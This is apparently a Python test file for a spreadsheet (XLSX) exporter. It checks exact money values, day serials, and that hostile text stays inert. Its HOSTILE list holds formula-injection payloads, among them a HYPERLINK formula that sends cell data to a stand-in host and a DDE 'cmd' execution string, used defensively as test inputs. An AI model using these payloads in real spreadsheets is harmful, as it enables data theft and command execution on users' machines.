"""Workbooks: exact money, days as days, and nothing that a spreadsheet would run.

Read back by hand from the bytes, so that no reader's kindness hides a mistake.
"""

import io
import zipfile
from datetime import date, timedelta
from decimal import Decimal
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st

from edi_engine.exports.workbooks import CELL_CHARACTERS_MAX, workbook_bytes
from edi_engine.records.datasets import ColumnKind, Dataset, DatasetColumn

_NAMES = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"

HOSTILE = (
    '=HYPERLINK("http://elsewhere.example/?"&A1,"Click")',
    "=1+1",
    "{=SUM(A1:A9)}",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "https://elsewhere.example/",
    "mailto:x@elsewhere.example",
    "internal:Sheet1!A1",
    "00123",
    "1e5",
    "<b>&amp;</b>",
    "naïve \u202e txt",
    "\x01\x1f_x0041_",
)


def one_column(kind: ColumnKind, *values: object) -> bytes:
    described = Dataset("thing", "Things.", (DatasetColumn("value", kind, "value"),))
    return workbook_bytes(described, [(value,) for value in values])


def parts(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist()}


def cells(data: bytes) -> list[tuple[str, str]]:
    """Kind and text of the cells below the header: "s" text, "n" number, "b" flag."""
    read = parts(data)
    shared = [
        "".join(text.text or "" for text in entry.iter(f"{_NAMES}t"))
        for entry in ElementTree.fromstring(read.get("xl/sharedStrings.xml", "<sst/>"))
    ]
    found = []
    for row in ElementTree.fromstring(read["xl/worksheets/sheet1.xml"]).iter(f"{_NAMES}row"):
        for cell in row.iter(f"{_NAMES}c"):
            kind, value = cell.get("t", "n"), cell.findtext(f"{_NAMES}v") or ""
            if row.get("r") != "1":
                found.append((kind, shared[int(value)] if kind == "s" else value))
    return found


@given(st.lists(st.integers(-(10**13), 10**13), min_size=1, max_size=20))
def test_money_is_written_digit_by_digit(amounts: list[int]) -> None:
    read = cells(one_column(ColumnKind.MONEY, *amounts))
    assert [kind for kind, _ in read] == ["n"] * len(amounts)
    assert [Decimal(text) * 100 for _, text in read] == amounts
    # The number that a spreadsheet makes of it is the one nearest to the amount, printed alike.
    assert [f"{float(text):.2f}" for _, text in read] == [
        f"{Decimal(cents) / 100:.2f}" for cents in amounts
    ]


def test_money_that_no_spreadsheet_can_hold_stays_text() -> None:
    assert cells(one_column(ColumnKind.MONEY, 10**15, -(10**15))) == [
        ("s", "10000000000000.00"),
        ("s", "-10000000000000.00"),
    ]


def test_money_is_never_a_float() -> None:
    with pytest.raises(TypeError, match="whole cents"):
        one_column(ColumnKind.MONEY, 1.5)


def test_texts_are_texts_whatever_they_look_like() -> None:
    data = one_column(ColumnKind.TEXT, *HOSTILE)
    assert {kind for kind, _ in cells(data)} == {"s"}
    read = parts(data)
    assert "<f" not in read["xl/worksheets/sheet1.xml"]
    assert not any("hyperlink" in text for text in read.values())
    # Control characters are written as the form says, and a text in that form is kept apart.
    written = [text for _, text in cells(data)]
    assert written[:12] == [text.replace("\r", "_x000D_") for text in HOSTILE[:12]]
    assert written[13:15] == list(HOSTILE[13:15])
    assert "\x01" not in "".join(read.values())


@given(st.dates(date(1900, 3, 1), date(9999, 12, 31)))
def test_a_day_is_the_number_of_days_that_spreadsheets_count(day: date) -> None:
    assert cells(one_column(ColumnKind.DAY, day)) == [("n", str((day - date(1899, 12, 30)).days))]


@pytest.mark.parametrize("day", [date(1900, 2, 28), date(1, 1, 1), "no day"])
def test_a_day_before_spreadsheets_agree_is_text(day: object) -> None:
    assert cells(one_column(ColumnKind.DAY, day)) == [("s", str(day))]


def test_flags_numbers_and_nothing() -> None:
    assert cells(one_column(ColumnKind.FLAG, True, False, None)) == [("b", "1"), ("b", "0")]
    assert cells(one_column(ColumnKind.NUMBER, 17, -3, 10**15, None)) == [
        ("n", "17"),
        ("n", "-3"),
        ("s", "1000000000000000"),
    ]
    assert cells(one_column(ColumnKind.TEXT, "", None)) == []


def test_a_text_too_long_for_a_cell_is_cut_and_says_so() -> None:
    ((_, text),) = cells(one_column(ColumnKind.TEXT, "a" * (CELL_CHARACTERS_MAX + 1)))
    assert len(text) == CELL_CHARACTERS_MAX
    assert text.endswith("a…")


def test_the_same_rows_are_the_same_bytes() -> None:
    first = one_column(ColumnKind.DAY, date(2026, 3, 21))
    assert first == one_column(ColumnKind.DAY, date(2026, 3, 21))
    assert first != one_column(ColumnKind.DAY, date(2026, 3, 21) + timedelta(1))


def test_the_header_stays_in_view_and_filters() -> None:
    sheet = parts(one_column(ColumnKind.TEXT, "a", "b"))["xl/worksheets/sheet1.xml"]
    assert 'state="frozen"' in sheet
    assert '<autoFilter ref="A1:A3"/>' in sheet
